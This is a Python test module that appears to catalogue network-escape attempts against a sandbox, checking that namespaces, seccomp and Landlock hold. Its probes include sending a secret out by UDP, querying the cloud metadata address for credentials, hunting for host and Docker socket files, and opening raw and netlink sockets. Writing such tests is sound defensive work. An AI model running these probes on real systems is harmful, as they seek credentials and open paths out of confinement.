"""Mallory wants out: to the internet, to the host's services, to anything that listens."""

from functools import partial

from tests.sandbox.attacks.attack import Attack, Control, Wants, attempt
from tests.sandbox.attacks.catalogue.listeners import (
    A_PASSER_BY,
    A_POST_BOX,
    A_REDIS,
    A_RESOLVER,
    A_SERVICE,
    A_SOCKET_FILE,
    AN_ABSTRACT_SOCKET,
    ANOTHER_MACHINE,
)
from tests.sandbox.attacks.needs import NAMES, NETWORK, ROOT, VSOCK

attack = partial(Attack, wants=Wants.NETWORK)
NAMESPACE = "network namespace"
FILTER = "seccomp"

CONNECTS = attempt("socket.create_connection(tuple(ADDRESS), 2)", imports="socket\nfrom target import ADDRESS")
METADATA = attempt('socket.create_connection(("169.254.169.254", 80), 2)')
IN_A_CLOUD = """
import fcntl, os, socket, struct
os.unshare(os.CLONE_NEWNET)  # a network of its own, in which somebody is at that address
there = struct.pack("16sH2s4s8x", b"lo", socket.AF_INET, b"", socket.inet_aton("169.254.169.254"))
fcntl.ioctl(socket.socket(), 0x8916, there)  # SIOCSIFADDR
fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sH22x", b"lo", 0x41))  # SIOCSIFFLAGS: up and running
server = socket.create_server(("169.254.169.254", 80))
"""
GIVES = """
import fcntl, os, socket, struct
request = struct.pack("16sH2s4s8x", b"lo", socket.AF_INET, b"", socket.inet_aton("10.9.8.7"))
try:
    fcntl.ioctl(socket.socket(), 0x8916, request)  # SIOCSIFADDR
    print("OUT")
except OSError as error:
    print("HELD", error)
"""
NOT_THE_HOSTS_OWN = "import os\nos.unshare(os.CLONE_NEWNET)\n"
FAMILIES = """
import os, socket
opened = []
for family in range(3, 46):
    if family not in (socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, 40):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind)
                opened.append(family)
            except OSError:
                pass
print("OUT" if opened else "HELD", sorted(set(opened)))
"""

ATTACKS = (
    attack(
        name="connects to another machine",
        item="TCP",
        wall=NAMESPACE,
        program=CONNECTS,
        stage=ANOTHER_MACHINE,
        control=Control(needs=NETWORK),
    ),
    attack(
        name="sends a secret away in a datagram",
        item="UDP",
        wall=NAMESPACE,
        program=attempt(
            "socket.socket(type=socket.SOCK_DGRAM).sendto(b'the secret', tuple(ADDRESS))",
            imports="socket\nfrom target import ADDRESS",
        ),
        stage=A_POST_BOX,
        control=Control(needs=NETWORK),
    ),
    attack(
        name="asks a name server",
        item="DNS",
        wall=NAMESPACE,
        program="""
            import socket
            from target import ADDRESS
            question = b"\\x1e\\xaf\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3org\\0\\0\\1\\0\\1"
            with socket.socket(type=socket.SOCK_DGRAM) as asking:
                asking.settimeout(1)
                try:
                    asking.sendto(question, tuple(ADDRESS))
                    print("OUT" if asking.recv(512) else "HELD")
                except OSError as error:
                    print("HELD", error)
            """,
        stage=A_RESOLVER,
        control=Control(needs=NETWORK),
    ),
    attack(
        name="resolves a name of the internet",
        item="DNS",
        wall=NAMESPACE,
        program=attempt('socket.getaddrinfo("example.org", 80)'),
        control=Control(needs=NAMES),
    ),
    attack(
        name="connects to a service on the host's loopback",
        item="the host's loopback",
        wall=NAMESPACE,
        program=CONNECTS,
        stage=A_SERVICE,
    ),
    attack(
        name="asks the site's Redis whether it is there",
        item="Redis",
        wall=NAMESPACE,
        program="""
            import socket
            from target import ADDRESS
            try:
                with socket.create_connection(tuple(ADDRESS), 2) as redis:
                    redis.sendall(b"PING\\r\\n")
                    print("OUT" if redis.recv(100) == b"+PONG\\r\\n" else "HELD")
            except OSError as error:
                print("HELD", error)
            """,
        stage=A_REDIS,
    ),
    attack(
        name="asks the cloud's metadata address for credentials",
        item="metadata address",
        wall=NAMESPACE,
        program=METADATA,
        control=Control(program=IN_A_CLOUD + METADATA, needs=ROOT),
    ),
    attack(
        name="connects to an abstract socket of the host",
        item="abstract sockets",
        wall=f"{NAMESPACE}; Landlock",
        program=attempt(
            "socket.socket(socket.AF_UNIX).connect(NAME.encode())", imports="socket\nfrom target import NAME"
        ),
        stage=AN_ABSTRACT_SOCKET,
    ),
    attack(
        name="connects to a socket file of the host",
        item="path sockets",
        wall="a root of its own",
        program=attempt("socket.socket(socket.AF_UNIX).connect(PATH)", imports="socket\nfrom target import PATH"),
        stage=A_SOCKET_FILE,
    ),
    attack(
        name="looks for socket files, the runner's among them",
        item="path sockets",
        wall="a root of its own",
        program="""
            import os, stat
            from target import FOLDER
            found = []
            for place in ("/run/interleave", "/run/docker", "/var/run", "/tmp", FOLDER):
                for folder, _, names in os.walk(place):
                    for name in names:
                        try:
                            if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode):
                                found.append(f"{folder}/{name}")
                        except OSError:
                            pass
            print("OUT" if found else "HELD", found[:3])
            """,
        stage=A_SOCKET_FILE,
    ),
    attack(
        name="opens a raw socket",
        item="raw",
        wall="no capability",
        program=attempt("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
        control=Control(needs=ROOT),
    ),
    attack(
        name="opens a packet socket",
        item="packet",
        wall=f"no capability; {FILTER}",
        program=attempt("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
        control=Control(needs=ROOT),
    ),
    attack(
        name="talks netlink to the kernel",
        item="netlink",
        wall=FILTER,
        program=attempt("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)"),
    ),
    attack(
        name="opens a socket between virtual machines",
        item="vsock",
        wall=FILTER,
        program=attempt("socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK"),
        control=Control(needs=VSOCK),
    ),
    attack(
        name="opens a socket of a family that nobody learns with",
        item="",
        wall=FILTER,
        program=FAMILIES,
    ),
    attack(
        name="finds an interface besides loopback",
        item="",
        wall=NAMESPACE,
        program="""
            import array, fcntl, socket, struct
            room = array.array("B", bytes(40 * 64))
            asked = struct.pack("iL", len(room), room.buffer_info()[0])
            size, _ = struct.unpack("iL", fcntl.ioctl(socket.socket(), 0x8912, asked))  # SIOCGIFCONF
            found = {room[at : at + 16].tobytes().split(b"\\0")[0] for at in range(0, size, 40)}
            print("HELD" if found <= {b"lo"} else "OUT", found)
            """,
        control=Control(needs=NETWORK),
    ),
    attack(
        name="gives loopback another address",
        item="the host's loopback",
        wall="no capability",
        program=GIVES,
        control=Control(program=NOT_THE_HOSTS_OWN + GIVES, needs=ROOT),
    ),
    attack(
        name="opens a door for somebody outside",
        item="",
        wall=NAMESPACE,
        program="""
            import socket
            from target import PORT
            with socket.create_server(("0.0.0.0", PORT)) as door:
                door.settimeout(0.4)
                try:
                    door.accept()
                    print("OUT")
                except TimeoutError:
                    print("HELD")
            """,
        stage=A_PASSER_BY,
    ),
)
